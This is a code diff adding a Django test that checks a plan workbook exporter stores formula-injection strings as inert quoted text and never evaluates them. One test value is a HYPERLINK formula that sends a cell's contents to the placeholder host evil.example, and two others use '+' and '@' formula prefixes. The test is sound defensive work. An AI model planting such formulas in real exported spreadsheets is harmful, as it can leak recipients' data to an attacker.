@@ -156,3 +156,33 @@ def test_empty_plan_workbook_has_no_circular_reference_after_recalculation(empti
     assert summary["Pooled total"][3:5] == [0, 0]  # spend in each year
     # The blank row left for the missing lines reads back as no lines.
     assert diff_workbook(part_two_for_plan(plan), read_workbook(data, plan)) == []
+
+
+@pytest.mark.django_db
+def test_formula_injection_in_the_part_2_workbook_is_stored_as_text_and_never_evaluated(bd_plan, tmp_path):
+    """The per-plan workbook writes through the same cell writer as the national dataset."""
+    from schemes.models import Scheme
+
+    plan, _ = bd_plan
+    hostile = {
+        "Expenditure": '=HYPERLINK("http://evil.example/?x="&B2,"Click")',
+        "Income": "+SUM(1,2)",
+        "Metrics": "@SUM(1,2)",
+    }
+    scheme = Scheme.objects.filter(plan=plan, expenditure_lines__isnull=False).first()
+    Scheme.objects.filter(pk=scheme.pk).update(name=hostile["Expenditure"])
+    IncomeLine.objects.filter(pk=IncomeLine.objects.filter(plan=plan).first().pk).update(note=hostile["Income"])
+    plan.metric_ambitions.filter(metric__isnull=False).update(rationale=hostile["Metrics"])
+    data = workbook.render_plan_workbook(plan)
+
+    written = openpyxl.load_workbook(io.BytesIO(data))
+    cells = {
+        sheet: next(c for row in written[sheet].iter_rows() for c in row if c.value == text)
+        for sheet, text in hostile.items()
+    }
+    for cell in cells.values():
+        assert cell.data_type == "s" and cell.quotePrefix
+    shown = recalculate_with_libreoffice(data, tmp_path)
+    for sheet, text in hostile.items():
+        assert shown[sheet][cells[sheet].coordinate].value == text
+    assert error_cells(shown) == []
